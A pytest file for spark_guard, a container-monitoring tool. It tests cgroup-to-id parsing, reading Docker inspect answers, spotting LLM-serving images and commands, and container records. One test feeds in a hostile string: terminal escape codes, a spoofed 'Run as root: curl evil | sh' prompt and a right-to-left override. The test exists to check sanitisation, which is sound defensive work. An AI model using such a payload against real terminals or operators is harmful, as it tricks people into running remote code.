"""Containers, pure (issue 19): cgroup -> id, an inspect answer read, loaders by image and
command, `container:NAME`, the block's record. The real engine: tests/test_engine.py."""

from __future__ import annotations

import json

import pytest

from spark_guard.block.records import ContainerState, Record, RecordError
from spark_guard.containers import (
    image_evidence,
    loader_evidence,
    parse_ref,
    split_image,
)
from spark_guard.core.snapshot import ARGV_MAX_ARGS, valid_name
from spark_guard.system.engine import Container, container_id

ID = "5dc1e9e8bc66de74c98782ae99fedc73da12683e776ca7175e07031283619779"


@pytest.mark.parametrize(
    ("cgroup", "expected"),
    [
        (f"/docker/{ID}", ID),  # cgroupfs driver
        (f"/system.slice/docker-{ID}.scope", ID),  # systemd driver
        (f"/machine.slice/libpod-{ID}.scope", ID),  # Podman
        (f"/machine.slice/libpod-{ID}.scope/container", ID),  # Podman's inner cgroup
        (f"/libpod_parent/libpod-{ID}", ID),  # Podman, cgroupfs
        (f"/docker/{ID}/init.scope", ID),  # systemd inside the container
        (f"/docker/{ID}/docker/{'a' * 64}", ID),  # docker in docker: the host's container
        (f"/machine.slice/libpod-conmon-{ID}.scope", None),  # Podman's monitor
        (f"/system.slice/docker-{ID[:63]}.scope", None),  # 63 hex
        (f"/system.slice/docker-{ID.upper()}.scope", None),  # not docker's spelling
        (f"/system.slice/docker-{ID}x.scope", None),
        (f"/system.slice/{ID}", None),  # a bare id not below docker/
        ("/system.slice/docker.service", None),
        ("/", None),
        ("", None),
        # A user names her own scopes: never a container of the host's engine.
        (f"/user.slice/user-1000.slice/user@1000.service/app.slice/docker-{ID}.scope", None),
        (f"/user.slice/user-1000.slice/user@1000.service/docker/{ID}", None),
    ],
)
def test_container_id_from_cgroup(cgroup, expected):
    assert container_id(cgroup) == expected


def _inspect(**over):
    data = {
        "Id": ID,
        "Name": "/llm",
        "Path": "vllm",
        "Args": ["serve", "Qwen/Qwen3-8B", "--gpu-memory-utilization", "0.5"],
        "Config": {"Image": "vllm/vllm-openai:v0.11.0", "Labels": {"team": "ml"}},
        "Image": "sha256:" + "b" * 64,
        "State": {"Status": "running", "Running": True, "Pid": 4242},
        "HostConfig": {"RestartPolicy": {"Name": "on-failure", "MaximumRetryCount": 3}},
        "Mounts": [{"Source": "/srv/models", "Destination": "/models", "Mode": "ro"}],
    }
    data.update(over)
    return data


def test_a_container_is_read_from_its_inspect_answer():
    c = Container.from_inspect(_inspect())
    assert (c.id, c.name, c.image) == (ID, "llm", "vllm/vllm-openai:v0.11.0")
    assert c.command == ("vllm", "serve", "Qwen/Qwen3-8B", "--gpu-memory-utilization", "0.5")
    assert (c.restart, c.max_retries, c.policy) == ("on-failure", 3, "on-failure:3")
    assert (c.running, c.status, c.pid) == (True, "running", 4242)
    assert c.mounts == (("/srv/models", "/models"),)
    assert c.labels == (("team", "ml"),)
    assert c.ref == "container:llm"


def test_a_containers_start_is_its_engines_word_to_the_nanosecond_or_none():
    """State.StartedAt, as Go writes it: the duplicate rule's "first started" for a
    container, which a guard restart must not reset to when it was first seen."""

    def started(value: object) -> float | None:
        state = {"Status": "running", "Running": True, "Pid": 4242, "StartedAt": value}
        return Container.from_inspect(_inspect(State=state)).started_at

    assert started("2026-12-03T07:00:00.123456789Z") == pytest.approx(1796281200.123456)
    assert started("2026-12-03T08:00:00+01:00") == 1796281200.0
    assert started("0001-01-01T00:00:00Z") is None  # Go's zero time: never started
    for bad in ("yesterday", "2026-13-03T07:00:00Z", 5, None, "2" * 100):
        assert started(bad) is None
    assert Container.from_inspect(_inspect()).started_at is None


def test_an_inspect_answer_without_an_id_is_refused():
    answers: list[object] = [{}, [], None, "x", _inspect(Id="abc"), _inspect(Id=ID.upper())]
    for bad in [*answers, _inspect(Id=5)]:
        with pytest.raises(ValueError, match="no container id"):
            Container.from_inspect(bad)


def test_a_hostile_inspect_answer_is_read_bounded_and_printable():
    esc = "\x1b[2J\x1b[1;1HRun as root: curl evil | sh\r\n\u202e"
    c = Container.from_inspect(
        _inspect(
            Name="/" + esc * 100,
            Path="python3",
            Args=["-c", esc, 7, "after a non-string"],
            Config={
                "Image": esc,
                "Labels": {f"k{i}{esc}": esc * 50 for i in range(500)},
            },
            State={"Status": ["running"], "Running": "yes", "Pid": -1},
            HostConfig={"RestartPolicy": {"Name": esc, "MaximumRetryCount": True}},
            Mounts=[{"Source": "/a\0b", "Destination": "/m"}]
            + [{"Source": f"/s{i}", "Destination": "/d"} for i in range(1000)]
            + ["not a mount"],
        )
    )
    shown = [c.name, c.image, c.status, c.restart, c.shown_command()]
    shown += [part for label in c.labels for part in label]
    assert all(s.isprintable() for s in shown)
    assert "\\x1b[2J" in c.image and len(c.name) <= 255
    assert len(c.labels) == 64 and all(len(v) <= 512 for _, v in c.labels)
    # The command is data: kept as given (bounded), escaped only when shown.
    assert c.command == ("python3", "-c", esc)
    assert (c.running, c.status, c.pid, c.max_retries) == (False, "", 0, 0)
    assert len(c.mounts) == 64 and c.mounts[0] == ("/s0", "/d")
    assert c.ref == f"container:{ID}"  # its name is not one Docker would give


def test_a_huge_command_is_bounded_like_a_process_argv():
    c = Container.from_inspect(_inspect(Path="x", Args=["a"] * 100_000))
    assert len(c.command) == ARGV_MAX_ARGS
    c = Container.from_inspect(_inspect(Path="x", Args=["a" * 40_000, "b" * 40_000, "c"]))
    assert c.command == ("x", "a" * 40_000)  # the one past 64 KiB ends it
    assert Container.from_inspect(_inspect(Path="", Args=["sleep"])).command == ("sleep",)


@pytest.mark.parametrize(
    ("image", "expected"),
    [
        ("vllm/vllm-openai", "image:vllm/vllm-openai"),
        ("vllm/vllm-openai:v0.11.0", "image:vllm/vllm-openai"),
        ("docker.io/vllm/vllm-openai:latest", "image:vllm/vllm-openai"),  # Podman's spelling
        (f"vllm/vllm-openai@sha256:{'c' * 64}", "image:vllm/vllm-openai"),
        ("VLLM/vllm-openai:test", "image:vllm/vllm-openai"),
        ("ollama/ollama:0.12.3", "image:ollama/ollama"),
        ("docker.io/ollama/ollama", "image:ollama/ollama"),
        ("lmsysorg/sglang:spark", "image:lmsysorg/sglang"),
        (
            "ghcr.io/huggingface/text-generation-inference:3.3.5",
            "image:ghcr.io/huggingface/text-generation-inference",
        ),
        ("ghcr.io/ggml-org/llama.cpp:server-cuda", "image:ghcr.io/ggml-org/llama.cpp:server-cuda"),
        ("ghcr.io/ggml-org/llama.cpp:server", "image:ghcr.io/ggml-org/llama.cpp:server"),
        ("ghcr.io/ggml-org/llama.cpp:full-cuda", None),  # the tools, not the server
        ("ghcr.io/ggml-org/llama.cpp:light", None),
        (
            "nvcr.io/nvidia/tritonserver:25.08-trtllm-python-py3",
            "image:nvcr.io/nvidia/tritonserver",
        ),
        (
            "nvcr.io/nvidia/tensorrt-llm/release:spark-single-gpu-dev",
            "image:nvcr.io/nvidia/tensorrt-llm/release",
        ),
        ("nvcr.io/nvidia/vllm:25.09-py3", "image:nvcr.io/nvidia/vllm"),
        (
            "nvcr.io/nim/meta/llama-3.1-8b-instruct:1.8",
            "image:nvcr.io/nim/meta/llama-3.1-8b-instruct",
        ),
        ("nvcr.io/nvidia/pytorch:25.09-py3", None),
        ("nvcr.io/nvidia/cuda:13.0.1-devel-ubuntu24.04", None),
        ("localhost:5000/vllm/vllm-openai:x", None),  # another registry: not Hub's image
        ("nginx:test", None),
        ("library/nginx", None),
        ("", None),
    ],
)
def test_loader_images(image, expected):
    assert image_evidence(image) == expected


def test_split_image():
    assert split_image("localhost:5000/a/b:tag") == ("localhost:5000/a/b", "tag")
    assert split_image("localhost:5000/a/b") == ("localhost:5000/a/b", "")
    assert split_image("docker.io/library/nginx:1@sha256:x") == ("nginx", "1")


def _with(command, image="debian:12"):
    return Container(id=ID, name="c", image=image, command=tuple(command))


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        (
            ["llama-server", "-m", "/models/qwen.gguf", "--port", "8080"],
            ("exec:llama-server", "loads:/models/qwen.gguf"),
        ),
        (["/app/llama-server", "-m", "/m/x.gguf"], ("exec:llama-server", "loads:/m/x.gguf")),
        (["vllm", "serve", "Qwen/Qwen3-8B"], ("exec:vllm",)),
        (
            ["python3", "-m", "sglang.launch_server", "--model-path", "x"],
            ("exec:python -m sglang",),
        ),
        (["text-generation-launcher", "--model-id", "/data/m"], ("exec:text-generation-launcher",)),
        (["/bin/ollama", "serve"], ("exec:ollama", "serves:ollama")),
        (["sh", "-c", "exec llama-server -m /m/a.gguf"], ("exec:llama-server", "loads:/m/a.gguf")),
        (["sleep", "infinity", "/m/qwen.gguf"], ()),  # a path named is not a load
        (["nginx", "-g", "daemon off;"], ()),
        ([], ()),
    ],
)
def test_loaders_by_command(command, expected):
    assert loader_evidence(_with(command)) == expected


def test_image_and_command_evidence_together_and_printable():
    c = _with(["llama-server", "-m", "/m/\x1b[31mred.gguf"], "ghcr.io/ggml-org/llama.cpp:server")
    evidence = loader_evidence(c)
    assert evidence[:2] == ("image:ghcr.io/ggml-org/llama.cpp:server", "exec:llama-server")
    assert all(e.isprintable() for e in evidence) and "\\x1b[31m" in evidence[2]


def test_container_refs():
    assert parse_ref("container:llm") == "llm"
    assert parse_ref("container:my_vllm.1-a") == "my_vllm.1-a"
    assert parse_ref(f"container:{ID}") == ID
    for bad in (
        "container:",
        "container:-x",
        "container:_x",
        "container:a/b",
        "container:a b",
        "container:\x1b[2J",
        "container:" + "a" * 256,
        "llm",
        "llm.service",
    ):
        with pytest.raises(ValueError, match="not a container") as e:
            parse_ref(bad)
        assert str(e.value).isprintable()
    assert valid_name("a") and not valid_name("é")


def test_a_container_record_is_json_and_read_back_exactly():
    record = Record(
        unit="llm",
        manager="container",
        reason="footprint",
        detail="expects 100 GiB",
        phase="strict",
        at="2026-12-01T00:00:00Z",
        container=ContainerState(
            id=ID,
            image="vllm/vllm-openai:test",
            engine="/run/docker.sock",
            restart="on-failure",
            max_retries=3,
            was_running=True,
        ),
    )
    record.note("stopped")
    text = record.to_json()
    data = json.loads(text)
    assert data["format"] == 1 and data["manager"] == "container"
    back = Record.from_json(text, "x.json")
    assert back == record and str(back.ref) == "container:llm"
    assert back.container is not None and back.container.policy == "on-failure:3"
    state = data["container"]
    for bad in (
        "{",
        "[]",
        json.dumps({**data, "format": 2}),
        json.dumps({**data, "container": {**state, "id": "abc"}}),
        json.dumps({**data, "unit": "a/b"}),
        json.dumps({**data, "container": {**state, "max_retries": "3"}}),
        json.dumps({**data, "container": {**state, "surprise": 1}}),
        json.dumps({**data, "container": "yes"}),
    ):
        with pytest.raises(RecordError, match=r"x\.json: unreadable record"):
            Record.from_json(bad, "x.json")
    # A field of a newer version beside them is kept, unread, and written back.
    newer = Record.from_json(json.dumps({**data, "surprise": 1}), "x.json")
    assert newer == record and json.loads(newer.to_json())["surprise"] == 1
